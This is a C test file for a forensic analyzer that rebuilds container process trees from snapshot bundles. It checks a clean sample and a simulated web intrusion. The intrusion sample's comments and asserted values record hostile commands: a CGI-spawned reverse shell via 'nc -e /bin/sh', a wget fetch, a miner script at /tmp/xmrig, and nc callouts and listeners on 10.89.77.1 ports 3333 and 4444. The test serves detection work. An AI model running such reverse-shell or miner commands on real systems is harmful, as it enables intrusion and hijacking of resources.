/*
 * test_procs_samples.c - analyzer/sv_procs end to end: both samples
 * through sv_pipeline_run, checked against what make-samples.sh did and
 * what the bundle's files prove (commands above each case). Every result
 * also goes through check_props (procs_check.h).
 */
#include <check.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "procs_check.h"
#include "sv_pipeline.h"
#include "sv_procs.h"
#include "sv_time.h"

#define SEC 1000000000LL
#define MS 1000000LL

#define WEB "49812af6ca9239fba7dee6b2a9f9df99d506e99af784dfa520af9d268c2799bf"
#define CLIENT \
	"26fb368108fc34ebf70607f561b97aa4ec24c810ce3364a5742e7a37afcef370"
#define HOG "26d00411f9a1115c23bf0b9d477171f21739e24ec6cb6525470eb123549ef253"

static struct sv_analysis *g_a;

static void teardown_sample(void)
{
	sv_analysis_free(g_a);
	g_a = NULL;
}

static const struct sv_procs_result *sample(const char *name)
{
	struct sv_pipeline_options o;
	struct sv_error err;
	char path[512];

	snprintf(path, sizeof(path), "%s/samples/%s", SV_SOURCE_DIR, name);
	sv_pipeline_options_default(&o);
	g_a = sv_pipeline_run(path, &o, &err);
	ck_assert_ptr_nonnull(g_a);
	ck_assert_ptr_nonnull(g_a->procs);
	check_props(g_a->procs);
	return g_a->procs;
}

static int is_child(const struct sv_proc *parent, const struct sv_proc *c)
{
	const struct sv_proc *k;

	for (k = parent->first_child; k; k = k->next_sibling)
		if (k == c)
			return 1;
	return 0;
}

/*
 * samples/web-incident.tar.zst (samples/README.md says what ran), proved
 * from the files, in the folder `tar --zstd -xf $S` makes (web-incident/):
 *
 * Identities: for f in $(find proc -mindepth 3 -name stat); do echo
 *   "$(basename $(dirname $f)) $(sed 's/.*) //' $f | awk '{print $20}')";
 *   done | sort -u | wc -l -> 97 (pid, starttime) pairs, in 23 snapshots
 *   (ls proc | wc -l).
 * Start time: manifest.json boot_time 1795934452, clk_tck 100; xmrig's
 *   proc/1795942201.860/12147/stat field 22 is 774910 -> 1795942201.10 s.
 * The web tree (cgroup libpod-4981...; NSpid from status):
 *   11248 conmon (ppid 1, cgroup /libpod_parent/conmon)
 *     11264 httpd -f -p 80 -h /www  (NSpid 11264 1: the init)
 *       11830 timeout 2 wget ..., 11832 /bin/sh (cwd /www/cgi-bin: the CGI's
 *       nc -e /bin/sh, re-parented to httpd), 12161 timeout 10 nc ...
 *         12147 /bin/sh /tmp/xmrig (comm xmrig, ppid 11832)
 *           12150, 12151 (cmdline "sleep 6" from proc/1795942202.809 on,
 *           "/bin/sh /tmp/xmrig" in 1795942201.860), 12156 nc 10.89.77.1 3333
 *   grep -l 'exec web' $(find proc -name cmdline) -> podman 11597;
 *   11633 conmon -c 4981... (the exec session) -> 11654 sleep 2, in web,
 *   NSpid 11654 8: the only container root without NSpid 1
 *   (grep NSpid of every folder whose cgroup names a container).
 * hog: 12529 sh (NSpid 1) in libpod-26d0..., last in proc/1795942212.968,
 *   not in proc/1795942213.968; events/dmesg.txt line 97 "[ 7761.658928]
 *   ... Killed process 12529 (sh)" -> 1795934452 + 7761.658928 s.
 * The attacker's listeners: 11425 busybox nc -l -p 4444 10.89.77.1 (ppid
 *   11411 timeout) and 11412 busybox nc -l -p 3333 (ppid 11405): no
 *   libpod- line in their cgroup files.
 */
START_TEST(incident_sample)
{
	const struct sv_procs_result *r = sample("web-incident.tar.zst");
	const struct sv_proc *httpd = must(r, 11264, 774217);
	const struct sv_proc *shell = must(r, 11832, 774663);
	const struct sv_proc *xmrig = must(r, 12147, 774910);
	const struct sv_proc *nc = must(r, 12156, 774914);
	const struct sv_proc *ex = must(r, 11654, 774494);
	const struct sv_proc *hog = must(r, 12529, 775236);
	const struct sv_proc *q;
	const struct sv_event *e;
	int64_t oom = 1795934452LL * SEC + 7761658928LL * 1000;

	ck_assert_uint_eq(r->n, 97);
	ck_assert_uint_eq(r->st.snapshots, 23);
	ck_assert_uint_eq(r->st.containers, 3);
	ck_assert_uint_eq(r->st.inits, 3);
	ck_assert_uint_eq(r->st.entered, 1);
	/* web: conmon -> httpd (init) -> the CGI's children */
	ck_assert_str_eq(httpd->container_id, WEB);
	ck_assert(httpd->is_init && !httpd->entered);
	ck_assert_str_eq(httpd->cmdline, "httpd -f -p 80 -h /www");
	ck_assert_str_eq(httpd->exe, "/bin/busybox");
	ck_assert(httpd->parent->monitor);
	ck_assert_ptr_null(httpd->parent->container_id);
	ck_assert_uint_eq(httpd->parent->pid, 11248);
	ck_assert(is_child(httpd, must(r, 11830, 774662)));
	ck_assert(is_child(httpd, shell));
	ck_assert(is_child(httpd, must(r, 12161, 774917)));
	/* the reverse shell and what it started */
	ck_assert_str_eq(shell->cmdline, "/bin/sh");
	ck_assert_str_eq(shell->cwd, "/www/cgi-bin");
	ck_assert_str_eq(shell->container_id, WEB);
	ck_assert(!shell->entered && !shell->entry);
	ck_assert_uint_eq(shell->snapshots, 15);
	ck_assert_ptr_eq(xmrig->parent, shell);
	ck_assert_str_eq(xmrig->comm, "xmrig");
	ck_assert_str_eq(xmrig->cmdline, "/bin/sh /tmp/xmrig");
	ck_assert_int_eq(xmrig->start_ns, 1795942201100LL * MS);
	ck_assert_ptr_eq(nc->parent, xmrig);
	ck_assert_str_eq(nc->cmdline, "nc 10.89.77.1 3333");
	q = must(r, 12151, 774912);
	ck_assert_ptr_eq(q->parent, xmrig);
	ck_assert_str_eq(q->changes->kind, SV_EV_PROCESS_EXEC);
	ck_assert_str_eq(q->changes->before,
			 "/bin/busybox: /bin/sh /tmp/xmrig");
	ck_assert_str_eq(q->changes->after, "/bin/busybox: sleep 6");
	ck_assert_int_eq(q->changes->t_before, 1795942201860LL * MS);
	ck_assert_int_eq(q->changes->t_after, 1795942202809LL * MS);
	ck_assert_uint_eq(r->st.changes, 1);
	/* podman exec: entered from outside, under its session's conmon */
	ck_assert(ex->entered);
	ck_assert_str_eq(ex->container_id, WEB);
	ck_assert_str_eq(ex->cmdline, "sleep 2");
	ck_assert_uint_eq(ex->parent->pid, 11633);
	ck_assert(ex->parent->monitor);
	ck_assert_ptr_nonnull(strstr(ex->parent->cmdline, "-c " WEB));
	e = event_of(r, SV_EV_PROCESS_ENTER, 11654, 0);
	ck_assert_ptr_nonnull(e);
	ck_assert_str_eq(e->message, "sleep (pid 11654) entered 49812af6ca92 "
			 "from outside by conmon (pid 11633): sleep 2");
	/* hog: the init of its container, gone in the window of the OOM kill */
	ck_assert_str_eq(hog->container_id, HOG);
	ck_assert(hog->is_init && hog->exited);
	ck_assert_int_le(hog->exit_lo, oom);
	ck_assert_int_ge(hog->exit_hi, oom);
	ck_assert_int_eq(hog->exit_lo, 1795942212968LL * MS);
	ck_assert_int_eq(hog->exit_hi, 1795942213968LL * MS);
	ck_assert_ptr_eq(sv_procs_find_at(r, 12529, oom), hog);
	e = event_of(r, SV_EV_PROCESS_EXIT, 12529, 0);
	ck_assert_str_eq(e->artifact, "proc/1795942212.968/12529/stat");
	ck_assert_str_eq(e->container_id, HOG);
	/* the client's loop is its container's init */
	ck_assert(must(r, 11549, 774417)->is_init);
	ck_assert_str_eq(must(r, 11549, 774417)->container_id, CLIENT);
	/* the attacker's listeners are host processes */
	q = must(r, 11425, 774330);
	ck_assert_ptr_null(q->container_id);
	ck_assert(!q->monitor);
	ck_assert_str_eq(q->cmdline, "busybox nc -l -p 4444 10.89.77.1");
	ck_assert_uint_eq(q->parent->pid, 11411);
	q = must(r, 11412, 774321);
	ck_assert_ptr_null(q->container_id);
	ck_assert_str_eq(q->cmdline, "busybox nc -l -p 3333 10.89.77.1");
	ck_assert_uint_eq(q->parent->pid, 11405);
}
END_TEST

/*
 * samples/web-clean.tar.zst: web (httpd) and client (the fetch loop), no
 * exec, no injection: the same commands as above give 43 identities in
 * 16 snapshots; 9079 httpd (NSpid 1) under conmon 9069; no container
 * root without NSpid 1; no process changes exe, cmdline, uid or caps.
 */
START_TEST(clean_sample)
{
	const struct sv_procs_result *r = sample("web-clean.tar.zst");
	const struct sv_proc *httpd = must(r, 9079, 771894);

	ck_assert_uint_eq(r->n, 43);
	ck_assert_uint_eq(r->st.snapshots, 16);
	ck_assert_uint_eq(r->st.containers, 2);
	ck_assert_uint_eq(r->st.inits, 2);
	ck_assert_uint_eq(r->st.entered, 0);
	ck_assert_uint_eq(r->st.changes, 0);
	ck_assert_int_eq(count_events(r, SV_EV_PROCESS_ENTER), 0);
	ck_assert(httpd->is_init);
	ck_assert_uint_eq(httpd->parent->pid, 9069);
	ck_assert(httpd->parent->monitor);
	ck_assert_uint_eq((uint64_t)count_events(r, SV_EV_PROCESS_START),
			  r->n);
	ck_assert_uint_eq((uint64_t)count_events(r, SV_EV_PROCESS_EXIT),
			  r->st.exited);
}
END_TEST

static Suite *procs_samples_suite(void)
{
	Suite *s = suite_create("procs-samples");
	TCase *e = tcase_create("samples");

	tcase_add_checked_fixture(e, NULL, teardown_sample);
	tcase_set_timeout(e, 120);
	tcase_add_test(e, incident_sample);
	tcase_add_test(e, clean_sample);
	suite_add_tcase(s, e);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(procs_samples_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
